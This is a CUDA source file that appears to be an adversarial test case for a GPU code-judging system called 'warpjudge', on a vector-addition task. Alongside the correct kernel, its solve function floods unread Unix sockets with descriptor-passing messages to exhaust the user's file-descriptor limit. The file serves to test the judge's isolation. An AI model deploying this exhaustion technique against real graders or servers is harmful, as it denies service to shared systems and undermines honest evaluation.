// warpjudge: vector-addition
// attack: process: descriptor exhaustion
// expect: accepted honest-time|runtime_error
// Sends descriptors over sockets that nobody reads, as many as its user may have on the way. The judge's user must not
// be the one that runs out.
#include <sys/socket.h>
__global__ void add(const float *a, const float *b, float *c, int n)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n)
        c[i] = a[i] + b[i];
}
extern "C" void solve(const float *A, const float *B, float *C, int N)
{
    enum { EACH = 250, PAIRS = 100 };
    union {
        char bytes[CMSG_SPACE(EACH * sizeof(int))];
        struct cmsghdr align;
    } control = {};
    char byte = 0;
    struct iovec iov = {&byte, 1};
    struct msghdr m = {};
    m.msg_iov = &iov;
    m.msg_iovlen = 1;
    m.msg_control = &control;
    m.msg_controllen = sizeof control;
    struct cmsghdr *c = CMSG_FIRSTHDR(&m);
    c->cmsg_level = SOL_SOCKET;
    c->cmsg_type = SCM_RIGHTS;
    c->cmsg_len = CMSG_LEN(EACH * sizeof(int));
    for (int i = 0; i < EACH; i++)
        ((int *)CMSG_DATA(c))[i] = 0;
    for (int i = 0; i < PAIRS; i++) {
        int pair[2];
        if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) == 0)
            while (sendmsg(pair[0], &m, MSG_DONTWAIT) == 1)
                continue;
    }
    add<<<(N + 255) / 256, 256>>>(A, B, C, N);
}
